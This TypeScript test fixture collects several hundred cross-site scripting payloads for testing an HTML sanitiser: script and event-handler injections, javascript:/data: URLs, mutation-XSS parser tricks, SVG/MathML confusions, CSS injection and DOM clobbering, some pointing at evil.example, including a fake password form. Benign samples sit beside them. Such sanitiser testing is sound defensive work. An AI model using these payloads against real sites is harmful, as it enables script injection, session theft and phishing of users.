/**
 * HTML, addresses and texts an attacker would put into content, packs, names and mail, and honest ones beside them.
 * Every place that shows what somebody else wrote is tested with all of them.
 */
export interface Sample {
  name: string;
  html: string;
}

const named = (samples: Record<string, string>): Sample[] =>
  Object.entries(samples).map(([name, html]) => ({ name, html }));

const scripts = named({
  'a script': '<script>alert(1)</script>',
  'a script in capitals with a space before its end': '<SCRIPT>alert(1)</SCRIPT >',
  'a script with an address': '<script src="https://evil.example/x.js"></script>',
  'a script with a slash for a space': '<script/src=https://evil.example/x.js></script>',
  'a script without an end': 'before<script>alert(1)',
  'a script around a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script with a broken end': '<script>alert(1)</script foo="bar">after',
  'a module script': '<script type="module">import "https://evil.example/x.js"</script>',
  'a script with an HTML comment': '<script><!--\nalert(1)//--></script>',
  'a script with half a comment and a second script':
    '<script><!--<script></script>--><img src=x onerror=alert(1)>',
  'a null character in the name': '<scr\0ipt>alert(1)</scr\0ipt>',
});

const handlers = named({
  'a picture with onerror': '<img src=x onerror=alert(1)>',
  'a picture with quoted onerror': '<img src="x" onerror="alert(1)">',
  'a picture with slashes': '<img/src="x"/onerror=alert(1)>',
  'a picture with a newline before the handler': '<img src=x\nonerror=alert(1)>',
  'a picture with a form feed before the handler': '<img src=x\x0conerror=alert(1)>',
  'a picture with capitals': '<IMG SRC=x oNeRrOr=alert(1)>',
  'a picture with a backtick value': '<img src=`x` onerror=`alert(1)`>',
  'a picture whose alt breaks out': '<img alt="x" src="x" alt="`><script>alert(1)</script>">',
  'a link with onclick': '<a href="https://example.com" onclick="alert(1)">x</a>',
  'a link with a handler by entity': '<a href="x" onmouseover="&#97;lert(1)">x</a>',
  'a paragraph with onpointerenter': '<p onpointerenter=alert(1)>x</p>',
  'a heading with autofocus': '<h1 tabindex=1 autofocus onfocus=alert(1)>x</h1>',
  'a division with an animation handler': '<div style="animation:x 1s" onanimationstart=alert(1)>x</div>',
  'a body with onload': '<body onload=alert(1)>x</body>',
  'details with ontoggle': '<details open ontoggle=alert(1)>x</details>',
  'a video with onerror': '<video><source onerror=alert(1)></video>',
  'an audio with onerror': '<audio src=x onerror=alert(1)>x</audio>',
  'an input with autofocus': '<input autofocus onfocus=alert(1)>',
  'a marquee': '<marquee onstart=alert(1)>x</marquee>',
  'an attribute without quotes that holds a tag':
    '<img title=<script>alert(1)</script> src=x onerror=alert(1)>',
  'an unfinished tag': '<img src=x onerror=alert(1) ',
  'an own element': '<x-evil onclick=alert(1)>x</x-evil>',
  'an element with is': '<p is="evil-p" onclick=alert(1)>x</p>',
  'a popover': '<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>y</button>',
  'content-visibility handler':
    '<p oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">x</p>',
});

/** Addresses that would run something, or lead where a link or picture must not. */
export const hostileAddresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  '\x01javascript:alert(1)',
  '\x00javascript:alert(1)',
  'javascript\x00:alert(1)',
  '\u00a0javascript:alert(1)',
  '\u2028javascript:alert(1)',
  'java\u200bscript:alert(1)',
  '\ufeffjavascript:alert(1)',
  'javascript://example.com/%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://example.com/1234',
  'file:///etc/passwd',
  'filesystem:https://example.com/temporary/x',
  'about:blank',
  'view-source:javascript:alert(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'jar:https://evil.example!/x.html',
  'feed:javascript:alert(1)',
  'intent://evil#Intent;scheme=javascript;end',
];

const quoted = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

const addresses = [
  ...hostileAddresses.flatMap((address) => [
    { name: `a link to ${JSON.stringify(address)}`, html: `<a href="${quoted(address)}">x</a>` },
    { name: `a picture from ${JSON.stringify(address)}`, html: `<img src="${quoted(address)}" alt="x">` },
  ]),
  ...named({
    'a scheme by decimal entities':
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    'a scheme by long entities without semicolons':
      '<a href=&#0000106&#0000097&#0000118ascript:alert(1)>x</a>',
    'a scheme by hexadecimal entities': '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    'a scheme split by a tab entity': '<a href="jav&Tab;ascript&colon;alert(1)">x</a>',
    'a scheme split by a newline entity': '<a href="jav&NewLine;ascript:alert(1)">x</a>',
    'a scheme after a control entity': '<a href="&#14;  javascript:alert(1);">x</a>',
    'a form action':
      '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>',
    'a ping': '<a href="https://example.com" ping="https://evil.example">x</a>',
    'a download name': '<a href="https://example.com" download="evil.exe">x</a>',
    'a srcset': '<img src="x" srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
    'a low source': '<img src="x" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
    'a background': '<div background="javascript:alert(1)">x</div>',
    'a picture element': '<picture><source srcset="javascript:alert(1)"><img src="x"></picture>',
    'an image map': '<map name=m><area href="javascript:alert(1)"></map><img usemap="#m" src=x>',
    'a base address': '<base href="https://evil.example/"><a href="x">x</a>',
    'a refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    'a linked stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
    'an import link': '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    'a link in a foreign namespace': '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    'an opener': '<a href="https://evil.example" target="_blank" rel="opener">x</a>',
    'a named target': '<a href="https://evil.example" target="victim">x</a>',
  }),
];

const containers = named({
  'a frame': '<iframe src="javascript:alert(1)"></iframe>',
  'a frame with a document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a frame without an end': '<iframe src=x onload=alert(1)>',
  'an object': '<object data="javascript:alert(1)">x</object>',
  'an embed': '<embed src="javascript:alert(1)">',
  'an applet': '<applet code="evil.class">x</applet>',
  'a frame set': '<frameset><frame src="javascript:alert(1)"></frameset>',
  'a portal': '<portal src="javascript:alert(1)"></portal>',
  'a form that asks for a password':
    '<form action="https://evil.example"><input name=password><button>Login</button></form>',
  'an outer form button': '<button form=login formaction="https://evil.example">x</button>',
  'a select': '<select><option>x<script>alert(1)</script></option></select>',
  'a dialog': '<dialog open>x</dialog>',
  'a slot and a shadow root':
    '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
});

const styles = named({
  'a style element': '<style>*{background:url(javascript:alert(1))}</style>',
  'a style element with an import': '<style>@import "https://evil.example/x.css";</style>',
  'an expression': '<div style="width: expression(alert(1))">x</div>',
  'a background address': '<div style="background:url(https://evil.example/track)">x</div>',
  'an escaped background address': '<div style="background:\\75 rl(https://evil.example/track)">x</div>',
  'a cover over the page': '<div style="position:fixed;inset:0;z-index:9999">x</div>',
  'a binding': '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
  'a behaviour': '<div style="behavior:url(x.htc)">x</div>',
  'an allowed declaration with another behind it': '<p style="text-align:center;position:fixed">x</p>',
  'an allowed property with an address': '<p style="text-align:url(https://evil.example)">x</p>',
  'a comment inside a declaration': '<p style="text-align:cen/**/ter;width:exp/**/ression(alert(1))">x</p>',
  'a property name of every object': '<p style="constructor:left;__proto__:left">x</p>',
  'a class and an id of the page': '<div class="pack-page" id="root">x</div>',
  'a negative indent': '<p style="margin-left:-9999px">x</p>',
});

const foreign = named({
  'a drawing with onload': '<svg onload=alert(1)>',
  'a drawing with a slash': '<svg/onload=alert(1)>',
  'a drawing with a script': '<svg><script>alert(1)</script></svg>',
  'a drawing with a script by entity': '<svg><script>&#97;lert(1)</script></svg>',
  'a drawing that animates an address':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  'a drawing that sets an address': '<svg><set attributeName=href to=javascript:alert(1) /></svg>',
  'a drawing that uses another':
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"/></svg>',
  'a foreign object': '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  'a title in a drawing': '<svg><title><img src=x onerror=alert(1)></title></svg>',
  'a style in a drawing': '<svg><style><img src=x onerror=alert(1)></style></svg>',
  'an end of a style in a drawing':
    '<svg><style><a id="</style><img src=x onerror=alert(1)>"></a></style></svg>',
  'a paragraph that leaves a drawing': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'a formula with a link': '<math href="javascript:alert(1)">x</math>',
  'a formula with an action':
    '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
  'mglyph and a table':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mglyph in a form':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
  'annotation with an encoding':
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  'a formula, a drawing and a style':
    '<math><mi><svg><style><!--</style><a title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">x</a>',
});

const mutations = named({
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  noembed: '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  noframes: '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  'a text area': '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'a title': '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  xmp: '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  plaintext: '<plaintext><img src=x onerror=alert(1)>',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'a template with a script': '<template><script>alert(1)</script></template>',
  'a comment': '<!-- <img src=x onerror=alert(1)> -->',
  'a comment that ends at once': '<!--><img src=x onerror=alert(1)>-->',
  'a comment that ends with a bang': '<!-- --!><img src=x onerror=alert(1)> -->',
  'a conditional comment': '<!--[if IE]><script>alert(1)</script><![endif]-->',
  'a comment without an end': 'before<!-- <img src=x onerror=alert(1)>',
  'a CDATA section': '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'a processing instruction':
    '<?xml version="1.0"?><img src=x onerror=alert(1)><?x <script>alert(1)</script> ?>',
  'a document type': '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  'an end tag with attributes': '</p onclick=alert(1)><//a><img src=x onerror=alert(1)>',
  'a tag inside a tag': '<<img src=x onerror=alert(1)>>',
  'an attribute that ends early': '<a href="x" title="\'><script>alert(1)</script>">x</a>',
  'a table that moves its content': '<table><a href="javascript:alert(1)"><tr><td>x</td></tr></a></table>',
  'lists out of order': '<li><ul></li><script>alert(1)</script></ul>',
  'half an entity': '<img src="x" alt="&quot onerror=alert(1)">',
  'a select and a style': '<select><style></select><img src=x onerror=alert(1)></style>',
  'markup written as text': '&lt;img src=x onerror=alert(1)&gt;',
  'markup written as text twice': '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  'an alt with an end of an element': '<img src="x" alt="</style><img src=x onerror=alert(1)>">',
  'an alt with an end of a comment': '<img src="x" alt="--><img src=x onerror=alert(1)>">',
});

const tables = named({
  'a table with handlers':
    '<table onclick=alert(1)><caption onclick=alert(1)>c</caption><thead onclick=alert(1)><tr onclick=alert(1)><th scope=col onclick=alert(1)>h</th></tr></thead><tbody onclick=alert(1)><tr><td onclick=alert(1)>x</td></tr></tbody></table>',
  'a table with addresses':
    '<table background="javascript:alert(1)"><tbody><tr><td background="javascript:alert(1)"><a href="javascript:alert(1)">x</a></td></tr></tbody></table>',
  'a cell with a picture': '<table><tbody><tr><td><img src=x onerror=alert(1)></td></tr></tbody></table>',
  'a cell with a script': '<table><tbody><tr><td><script>alert(1)</script>x</td></tr></tbody></table>',
  'a scope that breaks out':
    '<table><tbody><tr><th scope="col&quot;><script>alert(1)</script>">x</th></tr></tbody></table>',
  'a cell laid over the page':
    '<table style="position:fixed;inset:0"><tbody><tr><td style="position:fixed;inset:0;background:url(https://evil.example/x.png)">x</td></tr></tbody></table>',
  'a table in a table':
    '<table><tbody><tr><td><table><tbody><tr><td onclick=alert(1)>x</td></tr></tbody></table></td></tr></tbody></table>',
  'a script between rows': '<table><tbody><script>alert(1)</script><tr><td>x</td></tr></tbody></table>',
  'a form around rows':
    '<table><form action="javascript:alert(1)"><tbody><tr><td><input type=submit></td></tr></tbody></form></table>',
  'a template in a table':
    '<table><tbody><tr><td><template><img src=x onerror=alert(1)></template>x</td></tr></tbody></table>',
  'cells without a table': '<td onclick=alert(1)>x</td><th>y</th><caption>z</caption>',
  'columns with a style':
    '<table><colgroup><col style="background:url(javascript:alert(1))"></colgroup><tbody><tr><td>x</td></tr></tbody></table>',
});

const clobbering = named({
  'a link named like a member of the document': '<a name="cookie">x</a><a name="body">y</a>',
  'a picture named like a member of the document': '<img name="getElementById" src="x">',
  'a form with a named input': '<form name="document"><input name="attributes"></form>',
  'two links with one id': '<a id="config"></a><a id="config" name="url" href="https://evil.example">x</a>',
  'a picture with an id': '<img id="currentScript" src="x">',
  'a name with markup': '<a name="x&quot;><script>alert(1)</script>">x</a>',
});

/** What looks like a tag or an attribute to who reads sanitised HTML by its shape. */
const shapes = named({
  'words of a picture that end like an address':
    '<img alt="x src=" src="y onerror=alert(1) style=position:fixed z">',
  'words of a picture that end like a link': '<img alt="x href=" src="y onerror=alert(1) z">',
  'a block in the words of a picture': '<img alt="<p><img src=x onerror=alert(1)>" src="y">',
  'an open block in the words of a picture': '<img alt="<p onerror=alert(1) x" src="y">',
  'a picture in the words of a picture': "<img alt='<img alt=' src='x onerror=alert(1) y'>",
  'a block in an address': '<a href="https://example.com/<p><img src=x onerror=alert(1)>">x</a>',
});

export const hostileSamples: readonly Sample[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...containers,
  ...styles,
  ...foreign,
  ...mutations,
  ...tables,
  ...clobbering,
  ...shapes,
];

/** What honest people write; nothing of it may be lost by sanitising as 'rich'. */
export const plainSamples: readonly Sample[] = named({
  nothing: '',
  words: 'Eleven counters, one till',
  'words with signs': 'Fish &amp; chips &lt; 10 € &gt; 5 “quoted” &quot;straight&quot;',
  paragraphs: '<p>One</p><p>Two <strong>bold</strong> <em>slanted</em> <b>b</b> <i>i</i></p>',
  headings: '<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>',
  lists: '<ul><li>one<ul><li>inner</li></ul></li><li>two</li></ul><ol><li>first</li></ol>',
  'a quotation': '<blockquote><p>They say</p></blockquote>',
  'code and a rule': '<p><code>a &lt; b</code></p><hr>',
  'line breaks': '<p>one<br>two<br>three</p>',
  'a link': '<p><a href="https://example.com/a?b=1&amp;c=2#d">Example</a></p>',
  'a link to elsewhere':
    '<a href="https://example.com/" target="_blank" rel="noopener noreferrer">Example</a>',
  'a mail link': '<a href="mailto:nora@velden.example?subject=Hello%20there">Mail</a>',
  'a telephone link': '<a href="tel:+46705550142">Call</a>',
  'relative links':
    '<a href="/terms">a</a><a href="guide.pdf">b</a><a href="?page=2">c</a><a href="#part">d</a>',
  'a place to link to': '<a name="part-2">Part 2</a>',
  'a picture': '<p><img src="/sites/default/files/k/till.jpg" alt="A till on a counter"></p>',
  'struck and underlined words': '<p><strike>old</strike> <s>gone</s> <u>new</u></p>',
  'alignment and indent': '<p style="text-align: center">middle</p><p style="margin-left: 2em">in</p>',
  'spans and divisions': '<div>a <span>b</span></div>',
  'other scripts': '<p>العربية 日本語 Ελληνικά 🧵</p>',
  'a table':
    '<table><caption>Prices</caption><thead><tr><th scope="col">Terminal</th><th scope="col">Price</th></tr></thead><tbody><tr><th scope="row">T3</th><td style="text-align: right">1 cent</td></tr></tbody></table>',
  tokens: '<p>Dear {{recipient_name}}, from {{sender_name}}</p>',
});

/** Values for fields that hold plain text: names, titles, notes. */
export const hostileTexts: readonly string[] = [
  ...scripts.map(({ html }) => html),
  ...handlers.slice(0, 4).map(({ html }) => html),
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '{{recipient_name}}',
  '{{recipient_name}}<script>alert(1)</script>',
  '\u202egnp.exe',
  '$& $1 $` $$',
];
